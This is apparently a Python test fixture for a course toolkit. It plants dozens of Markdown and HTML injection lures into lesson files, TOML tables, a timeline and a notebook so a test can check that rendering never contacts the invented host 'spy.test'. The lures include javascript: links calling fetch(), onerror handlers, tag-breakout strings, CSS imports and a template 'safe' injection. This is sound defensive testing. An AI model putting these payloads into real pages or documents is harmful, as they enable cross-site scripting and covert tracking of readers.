"""A stranger's course, and what a stranger types: in all its words something that would call another host."""

import json
import tomllib
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import tomli_w

from tests.conftest import PACKS, copy_course
from toolkit.pack.about import checksum

SPY = "spy.test"
"""The host that must hear nothing. It exists nowhere."""
IN_MARKDOWN = [
    f"![one](http://{SPY}/1.png)",
    f"![two](//{SPY}/2.png 'title')",
    f"![three](\\\\\\\\{SPY}\\share\\3.png)",
    f"![four](file://{SPY}/4.png)",
    "![five][spy]",
    f"[![six](http://{SPY}/6.png)](javascript:fetch('//{SPY}/6'))",
    f"[seven](JaVa&#115;cript:fetch('//{SPY}/7'))",
    f"[eight](data:text/html,<img/src=//{SPY}/8>)",
    f"[nine](vbscript:{SPY})",
    f"[https://bank.example](https://bank.example@{SPY}/10)",
    f"![eleven](data:image/svg+xml,%3Csvg%3E%3Cimage%20href='http://{SPY}/11'/%3E%3C/svg%3E)",
    f"<http://{SPY}/12>",
    f"[thirteen](http://{SPY}/13)",
    f"$\\href{{http://{SPY}/14}}{{x}}$ \\(\\require{{[http://{SPY}]/15}}\\)",
]
IN_HTML = [
    f"<img src=http://{SPY}/20 srcset='http://{SPY}/21 2x'>",
    f"<a href=http://{SPY}/22 ping=http://{SPY}/23>x</a>",
    f"<link rel=stylesheet href=//{SPY}/24><link rel=dns-prefetch href=//{SPY}>",
    f"<style>@import '//{SPY}/25'; body {{ background: url(//{SPY}/26) }}</style>",
    f"<svg><image href=http://{SPY}/27 /><use xlink:href=http://{SPY}/28#a /></svg>",
    f"<video poster=http://{SPY}/29 src=http://{SPY}/30></video><audio src=//{SPY}/31></audio>",
    f"<table background=http://{SPY}/32><tr><td>x</table>",
    f"<iframe srcdoc='<img src=http://{SPY}/33>'></iframe><iframe src=//{SPY}/34></iframe>",
    f"<object data=http://{SPY}/35></object><embed src=http://{SPY}/36>",
    f"<meta http-equiv=refresh content='0;url=http://{SPY}/37'><base href=http://{SPY}/>",
    f"<script src=http://{SPY}/38></script><script>fetch('//{SPY}/39')</script>",
    f"<p style='background:url(http://{SPY}/40)'>x</p>",
    f"""\"><img src=http://{SPY}/41 onerror="fetch('//{SPY}/42')">""",
    f"'><input type=image src=http://{SPY}/43>",
    f"</style></title></textarea><img src=//{SPY}/44>",
    f"{{{{ '<img src=//{SPY}/45>' | safe }}}}",
]
LURES = [*IN_MARKDOWN, *IN_HTML]
ALL = "\n\n".join(LURES) + f"\n\n[spy]: http://{SPY}/5.png\n"


def hostile_course(into: Path) -> Path:
    """The lessons on the small invented interview, with lures in the text, in the pack and in a notebook."""
    lessons = copy_course(into, PACKS / "ferry")
    pack, lures = into / "seeds" / "ferry", cycle(LURES)
    source = pack / "interview.txt"
    source.write_text(f"{source.read_text('utf-8').rstrip()}\n\nA last word: {' '.join(IN_HTML)}\n", "utf-8")
    for path in [*pack.rglob("*.toml"), lessons / "rubrics.toml"]:
        table = lured(tomllib.loads(path.read_text("utf-8")), lures)
        if path.name == "about.toml":
            table["sha256"] = checksum(source.read_bytes())
        path.write_text(tomli_w.dumps(table), "utf-8")
    for path in pack.rglob("*.md"):
        path.write_text(path.read_text("utf-8").replace("\n## ", f"\n{ALL}\n## ") + f"\n{ALL}", "utf-8")
    (pack / "background.md").write_text(f"# Background\n\n{ALL}\n## 1. {IN_MARKDOWN[0]} {IN_HTML[0]}\n\n{ALL}", "utf-8")
    events = [{"date": "2021-05-01", "what": lure[:90], "who": "<img src=//spy.test>"} for lure in LURES]
    (pack / "timeline.toml").write_text(tomli_w.dumps({"event": events}).replace('"2021-05-01"', "2021-05-01"), "utf-8")
    notebook = json.loads((lessons / "one-class.ipynb").read_text("utf-8"))
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = [*cell["source"], f"\n\n{ALL}"]
    (lessons / "hostile.ipynb").write_text(json.dumps(notebook), "utf-8")
    return lessons


def lured(value: Any, lures: Iterator[str]) -> Any:
    """A table of TOML with one lure behind each of its sentences; what has no blank in it is a name or a place."""
    if isinstance(value, dict):
        return {name: lured(one, lures) if name not in ("aliases", "look_for") else one for name, one in value.items()}
    if isinstance(value, list):
        return [lured(one, lures) for one in value]
    return f"{value} {next(lures)}" if isinstance(value, str) and " " in value.strip() else value
